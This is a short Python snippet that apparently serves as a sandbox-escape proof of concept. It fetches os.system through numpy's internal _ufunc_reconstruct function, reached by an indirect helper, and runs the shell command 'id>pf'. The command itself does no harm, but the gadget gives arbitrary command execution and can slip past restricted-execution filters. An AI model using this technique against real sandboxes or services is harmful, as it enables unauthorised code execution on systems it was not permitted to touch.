def my_get(x):
    return x[0]
import numpy as np
my_get([np]).core._ufunc_reconstruct('os', 'system')('id>pf')
